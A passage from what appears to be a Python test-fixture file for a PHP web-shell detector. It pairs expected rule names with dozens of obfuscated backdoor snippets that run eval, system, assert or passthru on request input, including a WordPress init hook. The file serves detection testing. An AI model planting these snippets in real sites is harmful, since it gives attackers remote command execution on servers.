nj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==\nEOT;\neval(gzinflate(base64_decode($code)));\n",
    ),
    # d:preg_e_backref
    (
        "SPAMGEAR_EVASION_PregReplaceEvalCode",
        "SPAMGEAR_EVASION_PregReplaceEvalCode",
        "SPAMGEAR_EVASION_PregReplaceEvalCode",
        "<?php preg_replace('/(.*)/e', 'eval(base64_decode(\"\\\\1\"))', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\n",
    ),
    # d:preg_name_concat
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$a = 'pr'.'eg_'.'rep'.'lace';\n$a('/.*/e', $_POST['c'], '');\n",
    ),
    # d:mb_ereg_e
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php mb_ereg_replace('.*', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'x', 'e');\n",
    ),
    # d:array_walk_cf
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php array_walk($arr = array($_POST['c'] => 'x'), create_function('$v,$k', 'eval($k);'));\n",
    ),
    # d:tick_function
    (
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        "<?php\ndeclare(ticks=1);\nregister_tick_function('system', $_GET['c']);\n",
    ),
    # d:filter_var_cb
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'assert'));\n",
    ),
    # d:reflection_invokeargs
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        "SPAMGEAR_EVASION_ReflectionOfSink",
        "SPAMGEAR_EVASION_ReflectionOfSink",
        "<?php\n$r = new ReflectionFunction('assert');\n$r->invokeArgs(array($_POST['x']));\n",
    ),
    # d:array_intersect_ukey
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        "<?php array_intersect_ukey(array($_POST['x'] => 1), array(1), 'assert');\n",
    ),
    # d:array_walk_system
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php\n$arr = [$_REQUEST['c']];\narray_walk($arr, 'system');\n",
    ),
    # d:literal_sink_var
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = 'system';\n$f($_GET['c']);\n",
    ),
    # d:exec_out
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$cmd = $_POST['cmd'];\n$out = array();\nexec($cmd, $out);\necho implode(\"\\n\", $out);\n",
    ),
    # d:proc_open_input
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        "SPAMGEAR_INPUT_ShellOfInput",
        "SPAMGEAR_INPUT_ShellOfInput",
        "<?php\n$p = proc_open($_POST['c'], array(1 => array('pipe', 'w')), $pipes);\necho stream_get_contents($pipes[1]);\n",
    ),
    # d:wp_hook_closure
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php\nadd_action('init', function () {\n    if (isset($_POST['wp_k'])) {\n        eval(base64_decode($_POST['wp_k']));\n    }\n});\n",
    ),
    # d:wp_filter_assert
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php\nadd_filter('wp_head', function () { @assert(stripslashes($_REQUEST['q'])); });\n",
    ),
    # d:static_prop_blob
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\nclass L { public static $d = 'ZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw=='; }\n$f = 'gzinf' . 'late';\neval($f(base64_decode(L::$d)));\n",
    ),
    # d:double_b64_var
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$c = 'UUhONWMzUmxiU2drWDBkRlZGc2lZeUpkS1RzZ1pXTm9ieUFpYjJzaU93PT0=';\n$c = base64_decode(base64_decode($c));\neval($c);\n",
    ),
    # d:eval_sprintf
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php eval(sprintf('%s', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')));\n",
    ),
    # e:cmt_intermediate
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$str = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n// cache\n$dec = base64_decode($str);\n# inflate\n$code = gzinflate($dec);\n// run\neval($code);\n",
    ),
    # e:cmt_extract
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\nextract($_REQUEST);\n// dispatch\n@$a($b);\n",
    ),
    # e:cmt_chr
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n// go\n$f($_POST['x']);\n",
    ),
    # e:cmt_goto
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "<?php\ngoto a1;\nb2: eval($p); goto c3;\na1: $p = base64_decode($_POST['x']); goto b2;\nc3: echo '';\n",
    ),
    # e:crlf_pick
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\r\n$k = 'abcdefghijklmnopqrstuvwxyz';\r\n$f = $k[0].$k[18].$k[18].$k[4].$k[17].$k[19];\r\n$f($_POST['x']);\r\n",
    ),
    # e:crlf_helper
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\r\nfunction x1($c) {\r\n    return shell_exec($c);\r\n}\r\necho x1($_REQUEST['cmd']);\r\n",
    ),
    # e:arrow_var
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$f = fn($c) => eval($c);\n$f($_POST['x']);\n",
    ),
    # e:arrow_map
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php array_filter([$_REQUEST['c']], fn($c) => assert($c));\n",
    ),
    # e:bare_sink_literal
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = 'system';\n$f($_GET['c']);\n",
    ),
    # e:implode_letters
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$n = implode('', array('a','s','s','e','r','t'));\n$n($_POST['x']);\n",
    ),
    # e:implode_var
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$m = array('sys', 'tem');\n$f = implode($m);\n$f($_GET['c']);\n",
    ),
    # e:keys_call
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$k = array_keys($_GET)[0];\n$k($_GET[$k]);\n",
    ),
    # e:var_decoder_input_eval
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$k = 'base64_decode';\n$s = $k($_POST['q']);\n@eval($s);\n",
    ),
    # e:hash_cmt_closure
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$run = function($x) { return @eval($x); };\n# exec\n$run($_REQUEST['z']);\n",
    ),
    # f:b64_var_name_call
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php\n$a = \"YXNzZXJ0\";\n$b = base64_decode($a);\n$b($_POST['x']);\n",
    ),
    # f:map_rot13_name
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php @array_map(str_rot13('flfgrz'), array($_GET['c']));\n",
    ),
    # f:if_chain_k
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\nif (isset($_POST['k'])) {\n    $k = $_POST['k'];\n    $k = base64_decode($k);\n    $k = gzinflate($k);\n    eval($k);\n}\n",
    ),
    # f:ua_prefix_eval
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$z = $_SERVER['HTTP_USER_AGENT'];\nif (strpos($z, 'X-') === 0) eval(substr($z, 2));\n",
    ),
    # f:getenv_eval
    (
        "SPAMGEAR_EVASION_AltInputToSink",
        "SPAMGEAR_EVASION_AltInputToSink",
        "SPAMGEAR_EVASION_AltInputToSink",
        "<?php eval(base64_decode(getenv('HTTP_X_PAYLOAD')));\n",
    ),
    # f:json_input_eval
    (
        "SPAMGEAR_BACKDOOR_JsonBodyToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$c = json_decode(file_get_contents('php://input'), true);\neval($c['code']);\n",
    ),
    # f:unserialize_cookie_call
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$data = unserialize(base64_decode($_COOKIE['d']));\n$data['f']($data['a']);\n",
    ),
    # f:cufa_rot13
    (
        "SPAMGEAR_EVASION_DecodedCallableName",
        "SPAMGEAR_EVASION_DecodedCallableName",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php call_user_func_array(str_rot13('flfgrz'), [$_GET['c']]);\n",
    ),
    # f:cf_split_body
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "<?php\n$fn = 'cre' . 'ate_fun' . 'ction';\n$g = $fn('$x', 'ret' . 'urn ev' . 'al($x);');\n$g($_POST['c']);\n",
    ),
    # f:join_array_var
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$a = ['a', 's', 's', 'e', 'r', 't'];\n$f = join($a);\n$f($_POST['x']);\n",
    ),
    # f:curly_pick_echo
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$n = 'abcdefghijklmnopqrstuvwxyz';\n$f = $n{18}.$n{24}.$n{18}.$n{19}.$n{4}.$n{12};\necho $f($_REQUEST['c']);\n",
    ),
    # f:goto_passthru
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "<?php\ngoto l1;\nl3: passthru($c); goto l4;\nl1: $c = $_GET['c']; goto l2;\nl2: goto l3;\nl4: exit;\n",
    ),
    # f:escaped_curly_sg
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "<?php eval(${\"\\x5f\\x50\\x4f\\x53\\x54\"}['x']);\n",
    ),
    # f:globals_escaped_get
    (
        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
        "<?php $GLOBALS[\"\\x5fGET\"]['f']($GLOBALS[\"\\x5fGET\"]['a']);\n",
    ),
    # f:varvar_post
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        '<?php\n$_ = "_P" . "OST";\n$__ = $$_;\neval($__[\'x\']);\n',
    ),
    # f:map_system_explode
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php array_map('system', explode(',', $_GET['c']));\n",
    ),
    # f:backtick_default
    (
        "SPAMGEAR_EVASION_BacktickVarTiny",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$cmd = @$_REQUEST['c'] ?: 'id';\necho `$cmd`;\n",
    ),
    # f:rot13_passthru
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$s = str_rot13('cnffgueh');\n$s($_GET['cmd']);\n",
    ),
    # f:cookie_coalesce_and
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$k = $_COOKIE['k'] ?? '';\n$k && @eval(base64_decode($k));\n",
    ),
    # f:arrayobject_uasort
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        "<?php (new ArrayObject(array($_POST['x'] => 1, 'y' => 2)))->uasort('assert');\n",
    ),
    # f:iterator_assert
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php\n$arr = new ArrayIterator(array(1));\niterator_apply($arr, 'assert', array($_REQUEST['x']));\n",
    ),
    # f:destruct_prop
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        "SPAMGEAR_INPUT_MagicMethodSink",
        "SPAMGEAR_INPUT_MagicMethodSink",
        "<?php\nclass A { public $c; function __destruct() { eval($this->c); } }\n$a = new A;\n$a->c = $_POST['c'];\n",
    ),
    # f:append_decoder_name
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$b = 'base64_';\n$b .= 'decode';\neval($b($_POST['x']));\n",
    ),
    # f:append_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$x = '';\n$x .= 'QHN5c3RlbSgkX0dF';\n$x .= 'VFsiYyJdKTsgZWNobyAib2siOw==';\neval(base64_decode($x));\n",
    ),
    # f:rev_cookie_substr
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php eval(base64_decode(substr(strrev($_COOKIE['c']), 3)));\n",
    ),
    # f:hex_decoder_var
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        '<?php\n$d = "\\x67\\x7a\\x69\\x6e\\x66\\x6c\\x61\\x74\\x65";\n$e = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\n$r = $d($e(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\'));\neval($r);\n',
    ),
    # f:assert_str_replace_input
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php @assert(str_replace('~', '', $_POST['x']));\n",
    ),
    # f:list_each_var
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\nlist($f, $a) = array($_GET['f'], $_GET['a']);\n$f($a);\n",
    ),
    # g:b64_name_concat_input_eval
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$a = 'ba'.'se'.'64'.'_de'.'code';\n$b = $a($_POST['x']);\neval($b);\n",
    ),
    # g:multiline_concat_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$p = 'QHN5c3RlbSgk'\n    . 'X0dFVFsiYyJd'\n    . 'KTsgZWNobyAib2siOw==';\neval(base64_decode($p));\n",
    ),
    # g:preg_strip_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$blob = 'cyiuLC5J zdVQiXd3 DYlWSlaK 1bRWSE3O yFdQys9W sgYA';\neval(gzinflate(base64_decode(preg_replace('/\\s+/', '', $blob))));\n",
    ),
    # g:dq_index_escaped
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        '<?php\n$fn = "\\x61ss\\x65rt";\n$fn(@$_POST["x"]);\n',
    ),
    # g:eval_end_post
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php eval(base64_decode(end($_POST)));\n",
    ),
    # g:eval_array_pop
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php @eval(array_pop($_REQUEST));\n",
    ),
    # g:assert_chr_key
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php assert(@$_REQUEST[chr(99)]);\n",
    ),
    # g:spread_call
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        "SPAMGEAR_INPUT_InputCallbackVar",
        "SPAMGEAR_INPUT_InputCallbackVar",
        "<?php\n$f = $_REQUEST['f'];\n$f(...$_REQUEST['a']);\n",
    ),
    # g:eval_str_replace_lit
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php eval(str_replace('!', '', 'sy!st!em(!$_G!ET[!\"c\"]!);'));\n",
    ),
    # g:eval_closetag_input
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php eval('?>' . file_get_contents('php://input'));\n",
    ),
    # g:halt_fseek
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$h = fopen(__FILE__, 'r');\nfseek($h, __COMPILER_HALT_OFFSET__);\neval(gzinflate(stream_get_contents($h)));\n__halt_compiler();",
    ),
    # g:escaped_sg_varvar
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "<?php\n$k = \"\\x5f\\x47\\x45\\x54\";\n$$k['f']($$k['a']);\n",
    ),
    # g:globals_slot_sink
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "<?php\n$GLOBALS['a'] = 'assert';\n$GLOBALS['a']($_POST['x']);\n",
    ),
    # g:define_const_sink
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "<?php\ndefine('F', 'system');\n$f = F;\n$f($_GET['c']);\n",
    ),
    # g:constant_call
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "<?php\ndefine('RUN', 'passthru');\nconstant('RUN')($_GET['c']);\n",
    ),
    # g:obj_prop_call
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "<?php\n$obj = new stdClass;\n$obj->f = 'assert';\n($obj->f)($_POST['x']);\n",
    ),
    # g:map_two_arrays
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php array_map(function($f, $a) { return $f($a); }, [$_GET['f']], [$_GET['a']]);\n",
    ),
    # g:cuf_spread
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        "SPAMGEAR_INPUT_InputCallbackVar",
        "SPAMGEAR_INPUT_InputCallbackVar",
        "<?php\n$x = [$_GET['f'], $_GET['a']];\ncall_user_func(...$x);\n",
    ),
    # g:write_then_include
    (
        "SPAMGEAR_BACKDOOR_CachedPayloadInclude",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "<?php\n$code = base64_decode($_POST['c']);\nfile_put_contents('/tmp/x.php', $code);\ninclude '/tmp/x.php';\n",
    ),
    # g:exec_letters
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$e = 'e'.'x'.'e'.'c';\n$e($_GET['c'], $o);\nprint_r($o);\n",
    ),
    # g:append_passthru
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$t = 'pas';\n$t .= 'sthru';\n$t($_GET['c']);\n",
    ),
    # g:rot13_eval_var
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        '<?php\n$r = \'@flfgrz($_TRG["p"]); rpub "bx";\';\n$c = str_rot13($r);\neval($c);\n',
    ),
]

# (rule that must not fire as written, padded or embedded; legit code)
